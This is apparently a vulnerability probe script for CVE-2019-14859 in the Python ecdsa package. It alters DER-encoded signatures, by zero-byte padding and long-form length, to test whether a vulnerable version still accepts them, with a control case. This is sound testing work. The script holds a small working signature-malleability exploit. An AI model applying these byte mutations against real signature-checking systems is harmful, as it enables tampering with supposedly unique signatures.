# /// vertice-probe
# id = "PYSEC-2020-163"
# aliases = ["CVE-2019-14859", "GHSA-8qxj-f9rh-9fg2"]
# package = "ecdsa"
# summary = """\
#   Signatures in sloppy DER are accepted, so anyone can change the bytes of a valid signature and it stays valid."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N" }]
# cwe = ["CWE-347"]
# kind = "crypto"
# symbols = [
#   "ecdsa.VerifyingKey.verify",
#   "ecdsa.VerifyingKey.verify_digest",
#   "ecdsa.util.sigdecode_der",
#   "ecdsa.der.remove_integer",
# ]
#
# [[affected]]
# package = "ecdsa"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.13.3" }] }]
#
# [cases]
# attack = "a signature whose first number got a needless zero byte still verifies"
# [cases.variants]
# length = "a signature whose sequence length is in the long form still verifies"
# [cases.controls]
# verify = "a true signature verifies, one over other data does not"
#
# [test]
# vulnerable = "0.13.2"
# fixed = "0.13.3"
# ///
"""CVE-2019-14859: malleable signatures through DER that is not minimal."""

import json
import sys


def signed():
    import ecdsa
    from ecdsa.util import sigdecode_der, sigencode_der

    key = ecdsa.SigningKey.generate(curve=ecdsa.NIST256p)
    signature = key.sign(b"pay 10", sigencode=sigencode_der)

    def check(other, data=b"pay 10"):
        verifying = getattr(key, "verifying_key", None) or key.get_verifying_key()
        return verifying.verify(other, data, sigdecode=sigdecode_der)

    return signature, check


def judge(change):
    import ecdsa
    from ecdsa.der import UnexpectedDER

    signature, check = signed()
    if check(signature) is not True:
        raise RuntimeError("the true signature does not verify")
    changed = change(bytearray(signature))
    if changed == signature:
        raise RuntimeError("the signature was not changed")
    try:
        valid = check(changed)
    except (ecdsa.BadSignatureError, UnexpectedDER) as error:
        return "blocked", "%s: the changed signature is refused" % type(error).__name__
    if valid is True:
        return "exploited", "the signature with other bytes verifies too"
    raise RuntimeError("neither verified nor refused: %r" % valid)


def padded(signature):
    # SEQUENCE length, INTEGER length first byte...: one more zero byte before the first number
    signature[1] += 1
    signature[3] += 1
    signature[4:4] = b"\x00"
    return bytes(signature)


def long_form(signature):
    signature[1:1] = b"\x81"
    return bytes(signature)


def attack():
    return judge(padded)


def length():
    return judge(long_form)


def verify():
    import ecdsa

    signature, check = signed()
    if check(signature) is not True:
        return "broken", "the true signature does not verify"
    try:
        check(signature, b"pay 99")
    except ecdsa.BadSignatureError:
        return "works", "the true signature verifies, that over other data does not"
    return "broken", "a signature over other data verifies"


CASES = {"attack": attack, "length": length, "verify": verify}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
